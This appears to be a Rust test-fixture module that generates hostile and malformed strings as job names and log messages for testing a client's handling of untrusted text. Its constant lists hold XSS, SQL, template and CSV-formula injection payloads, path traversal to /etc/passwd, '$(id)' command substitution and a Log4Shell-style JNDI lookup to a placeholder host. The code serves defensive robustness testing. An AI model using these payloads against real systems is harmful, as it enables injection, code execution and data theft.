//! Texts that break a client that trusts them: as names of jobs and as messages of lines.

use fastrand::Rng;
use txjobs_sdk::Severity;

use super::story::{Story, Told};

/// How many bytes the longest line has.
pub(super) const LONGEST: usize = 5_000_000;
/// How many characters a long name has.
pub(super) const LONG_NAME: usize = 300;

/// What a text tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Class {
    Markup,
    Attribute,
    Template,
    Sql,
    Ansi,
    Control,
    Bidi,
    ZeroWidth,
    Combining,
    RightToLeft,
    Cjk,
    Emoji,
    LineBreak,
    LongWord,
    Empty,
    Blank,
    Path,
    NonCharacter,
    Json,
    Csv,
    Literal,
}

use Class::*;

const CLASSES: [Class; 21] = [
    Markup,
    Empty,
    Attribute,
    Template,
    Sql,
    Ansi,
    Control,
    Bidi,
    ZeroWidth,
    Combining,
    RightToLeft,
    Cjk,
    Emoji,
    LineBreak,
    LongWord,
    Blank,
    Path,
    NonCharacter,
    Json,
    Csv,
    Literal,
];

const MARKUP: &[&str] = &[
    "<script>document.title='broken'</script>",
    "<img src=x onerror=\"document.title='broken'\">",
    "</td></tr></table></main><h1>outside</h1>",
    "<!-- a comment that never ends",
    "</script></style></title></textarea><svg/onload=alert(1)>",
    "<b>bold</b> &lt;b&gt; &amp;amp; &#60; &nbsp; ]]> <![CDATA[ <?xml version=\"1.0\"?>",
    "<a href=\"javascript:alert(1)\">click</a><base href=\"//example.invalid/\"><meta http-equiv=refresh content=0>",
];
const ATTRIBUTE: &[&str] = &[
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)' x='",
    "`backticks` \"double\" 'single' \\\"escaped\\\" \\'",
    "\"><script>alert(1)</script>",
];
const TEMPLATE: &[&str] = &[
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {%raw%}",
    "{} {0} {:?} {name} {{}} %s %n %d %x %99999999d %1$s",
    "$(id) `id` %PATH% $HOME ; id | cat & # ~ !!",
    "${jndi:ldap://example.invalid/a}",
];
const SQL: &[&str] = &[
    "'; DROP TABLE executions; --",
    "1' OR '1'='1' /*",
    "Robert'); DELETE FROM jobs;--",
    "100% _wild% [a-z] \\% LIKE '%'",
];
const ANSI: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m \u{1b}[7minverse",
    "\u{1b}[2J\u{1b}[H\u{1b}[1;1Hat the top of the screen",
    "\u{1b}]0;another title\u{7}\u{1b}]8;;https://example.invalid/\u{1b}\\a link\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred in one byte\u{9b}0m \u{1b}[?25l\u{1b}[?1049h",
    "100 %\u{1b}[1A\u{1b}[2Koverwritten",
];
const CONTROL: &[&str] = &[
    "a NUL:\0:and after it",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{b}\u{c}\u{e}\u{f}\u{10}\u{11}\u{12}\u{13}\u{14}\u{15}\u{16}",
    "\u{17}\u{18}\u{19}\u{1a}\u{1c}\u{1d}\u{1e}\u{1f}\u{7f}\u{80}\u{85}\u{9f} next line\u{85}here",
    "abc\u{8}\u{8}\u{8}xyz\tone\ttab\t\ttwo",
    "\0",
];
const BIDI: &[&str] = &[
    "invoice\u{202e}fdp.exe",
    "\u{2066}isolated\u{2069} \u{2067}right\u{2069} \u{2068}first strong\u{2069}",
    "\u{202a}\u{202b}\u{202d}\u{202e}\u{2066}\u{2067}never closed",
    "user\u{200f}\u{200e}\u{61c}name \u{202e}detelpmoc\u{202c} failed",
];
const ZERO_WIDTH: &[&str] = &[
    "zero\u{200b}width\u{200c}every\u{200d}where\u{2060}\u{feff}",
    "\u{feff}begins with a byte order mark",
    "soft\u{ad}hy\u{ad}phens\u{180e}\u{34f}\u{115f}\u{3164}\u{2800}",
    "\u{200b}",
];
const RIGHT_TO_LEFT: &[&str] = &[
    "تحميل البيانات إلى مستودع البيانات (12 من 40)",
    "טעינת נתונים למחסן הנתונים: 1,204 שורות",
    "Load of العملاء into dw.DimCustomer: ۱۲۳۴ rows, שגיאה 208",
    "اُردُو میں پیغام — 50 %",
];
const CJK: &[&str] = &[
    "データウェアハウスへの読み込みが完了しました（1,204行）",
    "数据仓库加载失败：违反主键约束",
    "데이터 웨어하우스 로드 완료",
    "𠮷野家と髙橋さん、ﾊﾝｶｸ、ＦＵＬＬ　ＷＩＤＴＨ",
];
const EMOJI: &[&str] = &[
    "👩‍👩‍👧‍👦 family, 👩🏽‍💻 with a skin, 🏴󠁧󠁢󠁥󠁮󠁧󠁿 of tags, 🏳️‍🌈 joined",
    "🇩🇰🇩🇪🇺🇸🇩 an odd flag",
    "1️⃣#️⃣*️⃣ ☺︎ ☺️ ❤️‍🔥 🫨",
    "🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥🔥",
];
const LINE_BREAK: &[&str] = &[
    "one\r\ntwo\r\nthree",
    "progress 10 %\rprogress 90 %\rdone",
    "\n\n\nthree lines down\n",
    "a\u{2028}line separator\u{2029}and a paragraph",
    "ends in CR\r",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n<html>",
];
const BLANK: &[&str] = &[
    "   leading",
    "trailing   ",
    "  both\t ",
    " ",
    "\u{a0}\u{2003}\u{3000}no ASCII blank\u{a0}",
    "many      blanks      between",
];
const PATH: &[&str] = &[
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\..\\nul",
    "//example.invalid/x?y=1&z=2#fragment",
    "javascript:alert(1)",
    "https://user:secret@127.0.0.1:1/%2e%2e/%00?a=b&amp;c#d",
    "/public/jobs/..%2f..%2fadmin",
    "a/b/c",
    "?limit=0&after=x#top",
    ".",
    "..",
    "con",
    "data:text/html,<script>alert(1)</script>",
];
const NON_CHARACTER: &[&str] = &[
    "\u{fffd}",
    "\u{fffe}\u{ffff}\u{fdd0}\u{fdef}",
    "\u{1fffe}\u{10ffff}\u{10fffe}",
    "private \u{e000}\u{f8ff}\u{100000} use, lone \u{fffd} sign",
];
const JSON: &[&str] = &[
    "{\"Message\":\"not this one\",\"State\":2,\"Severity\":0}",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{\"a\":",
    "\\u0041 \\ud800 \\u0000 \\n \\\" \\\\",
    "\"}],\"State\":3}]",
    "{\"error\":{\"inner\":\"{\\\"inner\\\":\\\"{\\\\\\\"a\\\\\\\":1}\\\"}\"}}",
];
const CSV: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "a;b,c\t\"d\"\"e\",\"f\ng\"",
    "=HYPERLINK(\"https://example.invalid/\",\"click\")",
];
const LITERAL: &[&str] = &[
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-0",
    "1e309",
    "__proto__",
    "constructor",
    "[object Object]",
    "18446744073709551616",
    "2026-13-45T25:61:61Z",
];

/// The name of the job at this place of the list. The first ones have every class once; after them come names that
/// several jobs have, and long ones.
pub(super) fn name(place: u32) -> String {
    let at = place as usize;
    let round = at / (CLASSES.len() + 2);
    match (at % (CLASSES.len() + 2)).checked_sub(2) {
        // The second job has an empty name; later ones differ by their round, where the class lets them.
        _ if at < CLASSES.len() => text(CLASSES[at], 0),
        None if at.is_multiple_of(2) => "The same name".to_owned(),
        None => long_name(round),
        Some(class) => text(CLASSES[class], round),
    }
}

/// The lines of a run that would say this. Lines, severities and their order stay, the words do not.
pub(super) fn spoil(rng: &mut Rng, story: &mut Story) {
    for told in story.before.iter_mut().chain(&mut story.after) {
        told.message = message(rng);
    }
}

/// A line of any class.
pub(super) fn message(rng: &mut Rng) -> String {
    let class = CLASSES[rng.usize(0..CLASSES.len())];
    text(class, rng.usize(0..1000))
}

/// A line of every class, and the longest one: what the newest run of the first job says.
pub(super) fn everything() -> Vec<Told> {
    let all = CLASSES.iter().flat_map(|&class| (0..variants(class)).map(move |n| text(class, n)));
    let severities = [Severity::Information, Severity::Warning, Severity::Error];
    let mut lines: Vec<_> = severities
        .into_iter()
        .cycle()
        .zip(all)
        .map(|(severity, message)| Told { weight: 1, severity, message })
        .collect();
    lines.push(Told { weight: 1, severity: Severity::Information, message: longest() });
    lines
}

/// One line of [`LONGEST`] bytes, without a place to break it but a few.
pub(super) fn longest() -> String {
    let mut line = "<b>5 MB</b> ".to_owned();
    while line.len() < LONGEST - 64 {
        line.push_str("x0123456789abcdef-\u{fc}\u{4e2d}\u{1f525}");
    }
    let missing = LONGEST.saturating_sub(line.len());
    line.extend(std::iter::repeat_n('.', missing));
    line
}

fn long_name(round: usize) -> String {
    let word = if round.is_multiple_of(2) { "W" } else { "A very long name " };
    let mut name: String = word.chars().cycle().take(LONG_NAME - 1).collect();
    name.push('.');
    name
}

fn variants(class: Class) -> usize {
    match class {
        Empty => 1,
        LongWord | Combining => 2,
        _ => fixed(class).len(),
    }
}

fn text(class: Class, n: usize) -> String {
    match class {
        Empty => String::new(),
        LongWord if n.is_multiple_of(2) => {
            "Donaudampfschifffahrtselektrizit\u{e4}tenhauptbetriebswerk".repeat(60)
        }
        LongWord => "0123456789abcdef".repeat(400),
        Combining => {
            let marks: String = ('\u{300}'..='\u{36f}').cycle().skip(n).take(40).collect();
            if n.is_multiple_of(2) {
                format!("Z{marks}a{marks}l{marks}g{marks}o{marks}")
            } else {
                format!("{marks} marks without a letter before, \u{e9} is not e\u{301}")
            }
        }
        _ => {
            let texts = fixed(class);
            texts[n % texts.len()].to_owned()
        }
    }
}

fn fixed(class: Class) -> &'static [&'static str] {
    match class {
        Markup => MARKUP,
        Attribute => ATTRIBUTE,
        Template => TEMPLATE,
        Sql => SQL,
        Ansi => ANSI,
        Control => CONTROL,
        Bidi => BIDI,
        ZeroWidth => ZERO_WIDTH,
        RightToLeft => RIGHT_TO_LEFT,
        Cjk => CJK,
        Emoji => EMOJI,
        LineBreak => LINE_BREAK,
        Blank => BLANK,
        Path => PATH,
        NonCharacter => NON_CHARACTER,
        Json => JSON,
        Csv => CSV,
        Literal => LITERAL,
        Empty | LongWord | Combining => &[""],
    }
}

#[cfg(test)]
mod tests;
